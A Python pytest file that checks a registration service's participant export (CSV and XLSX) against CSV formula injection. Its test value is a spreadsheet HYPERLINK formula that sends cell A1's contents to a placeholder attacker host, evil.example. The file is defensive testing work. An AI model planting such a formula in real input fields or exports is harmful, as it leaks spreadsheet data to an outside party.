"""The participants export, through its route: text people typed is never a formula
(CSV injection), in CSV or XLSX."""

from __future__ import annotations

import io

import asyncpg
import httpx
import pytest
from openpyxl import load_workbook

from services.core.tables import read_csv_table
from services.registration import store
from services.registration.tests.conftest import PASSWORD, bearer, make_organiser, sign_up, token_for

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize("format", ["csv", "xlsx"])
async def test_a_job_typed_as_a_formula_is_exported_as_text(
    client: httpx.AsyncClient, pool: asyncpg.Pool, demo_units: dict[str, store.Unit], format: str
) -> None:
    await make_organiser(pool)
    organiser = await token_for(client, "btc", PASSWORD)
    signed_up = await client.post("/api/auth/register", json=sign_up(demo_units["LC-P01"].id, job=FORMULA))
    assert signed_up.status_code == 201, signed_up.text

    response = await client.get("/api/admin/participants/export", params={"format": format},
                                headers=bearer(organiser))
    assert response.status_code == 200, response.text
    if format == "csv":
        [row] = read_csv_table(response.content).rows
        assert row[9] == "'" + FORMULA
    else:
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
        assert sheet["J2"].value == "'" + FORMULA
